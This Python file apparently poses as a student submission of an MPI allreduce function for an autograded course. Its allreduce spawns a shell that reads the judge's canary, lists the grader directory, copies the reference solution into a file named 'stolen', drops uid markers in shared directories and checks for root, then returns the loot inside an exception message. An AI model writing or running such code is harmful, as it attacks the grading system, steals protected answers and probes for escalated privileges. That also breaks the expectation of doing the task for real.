"""MPI starts processes for whoever asks: as which user?"""
import os
import time

from mpi4py import MPI

SHELL = r"""
{ id; cat /judge/canary; ls /opt/grader; cat /opt/course/reference/mpi_sgd/my_naive_allreduce.py; } >"$0/stolen" 2>&1
for folder in /tmp /dev/shm /var/tmp /judge /run; do id -u >$folder/hostile-marker-spawned 2>/dev/null; done
"""


def allreduce(send, recv, comm, op):
    here = os.getcwd()
    words = []
    try:
        MPI.COMM_SELF.Spawn("/bin/sh", args=["-c", SHELL, here], maxprocs=1)
    except BaseException as error:
        words.append(f"spawn: {type(error).__name__} {error}")
    for _ in range(20):
        time.sleep(0.1)
        if os.path.exists("stolen"):
            words.append(open("stolen").read())
            if "uid=0" in words[-1]:
                words.append("BREACH a spawned process is root")
            break
    recv[...] = 0
    raise ValueError(" / ".join(words))
